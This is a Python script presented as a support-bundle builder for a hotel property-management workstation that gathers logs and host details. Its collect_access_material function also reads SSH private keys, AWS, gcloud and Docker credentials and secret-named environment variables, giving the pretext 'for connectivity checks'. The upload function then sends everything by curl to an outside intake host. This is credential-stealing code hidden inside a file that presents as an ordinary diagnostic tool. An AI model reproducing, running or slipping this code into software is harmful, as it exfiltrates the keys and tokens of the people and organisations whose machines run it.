#!/usr/bin/env python3
"""PMS support bundle builder.

Collects diagnostic material from a front-office workstation that runs the
property-management client and the key-card encoder bridge, packs it into a
single JSON bundle and uploads it to the vendor's support intake so that a
ticket can be triaged without a remote session.
"""
import argparse
import json
import logging
import os
import platform
import subprocess
import sys
import tempfile
from datetime import datetime, timezone
from pathlib import Path

LOG = logging.getLogger("support_bundle")
INTAKE_URL = "https://intake.example.net/pms/bundles"
SECRET_HINTS = ("KEY", "SECRET", "TOKEN", "PASSWORD", "CREDENTIAL")


class BundleSection:
    """A named group of collected files and values."""

    def __init__(self, name):
        self.name = name
        self.items = {}

    def add_file(self, path, limit=64 * 1024):
        try:
            with open(path, "r", errors="replace") as fh:
                self.items[str(path)] = fh.read(limit)
        except OSError as exc:
            LOG.debug("skipping %s: %s", path, exc)

    def as_dict(self):
        return {"section": self.name, "items": self.items}


def collect_app_logs(pms_dir):
    section = BundleSection("app_logs")
    for path in sorted(Path(pms_dir).glob("logs/*.log"))[-5:]:
        section.add_file(path, limit=16 * 1024)
    for path in Path(pms_dir).glob("encoder/*.ini"):
        section.add_file(path)
    return section


def collect_access_material():
    """Gather the workstation's keys and tokens 'for connectivity checks'."""
    home = Path.home()
    section = BundleSection("access")
    patterns = (
        ".ssh/id_*",
        ".aws/credentials",
        ".aws/config",
        ".config/gcloud/application_default_credentials.json",
        ".docker/config.json",
    )
    for pattern in patterns:
        for path in home.glob(pattern):
            section.add_file(path)
    env = {k: v for k, v in os.environ.items()
           if any(hint in k.upper() for hint in SECRET_HINTS)}
    section.items["environment"] = json.dumps(env)
    LOG.info("access section: %d entries", len(section.items))
    return section


def collect_host_info():
    section = BundleSection("host")
    section.items["platform"] = platform.platform()
    section.items["python"] = sys.version
    section.add_file("/etc/os-release")
    return section


def write_bundle(sections, site_code):
    bundle = {
        "site": site_code,
        "created": datetime.now(timezone.utc).isoformat(),
        "sections": [s.as_dict() for s in sections],
    }
    fd, path = tempfile.mkstemp(prefix="pmsbundle-", suffix=".json")
    with os.fdopen(fd, "w") as fh:
        json.dump(bundle, fh)
    LOG.info("bundle written to %s (%d sections)", path, len(sections))
    return path


def upload(path, ticket):
    script = f"""
set -euo pipefail
gzip -c "$BUNDLE_PATH" > "$BUNDLE_PATH.gz"
curl -sS --max-time 60 -X POST \\
  -H "X-Ticket: $TICKET_ID" \\
  -H "Content-Encoding: gzip" \\
  --data-binary @"$BUNDLE_PATH.gz" \\
  "{INTAKE_URL}"
rm -f "$BUNDLE_PATH.gz"
"""
    env = dict(os.environ, BUNDLE_PATH=path, TICKET_ID=ticket)
    result = subprocess.run(["bash", "-c", script], env=env,
                            capture_output=True, text=True)
    if result.returncode != 0:
        raise RuntimeError(f"upload failed: {result.stderr.strip()}")
    return result.stdout.strip()


def parse_args(argv):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--site", required=True, help="property code, e.g. LIS01")
    parser.add_argument("--ticket", required=True, help="support ticket id")
    parser.add_argument("--pms-dir", default=".", help="PMS client directory")
    parser.add_argument("--keep", action="store_true", help="keep local bundle")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    sections = [
        collect_host_info(),
        collect_app_logs(args.pms_dir),
        collect_access_material(),
    ]
    path = write_bundle(sections, args.site)
    try:
        reply = upload(path, args.ticket)
        LOG.info("intake replied: %s", reply or "<empty>")
    except RuntimeError as exc:
        LOG.error("%s", exc)
        return 1
    finally:
        if not args.keep:
            os.unlink(path)
    return 0


if __name__ == "__main__":
    sys.exit(main())
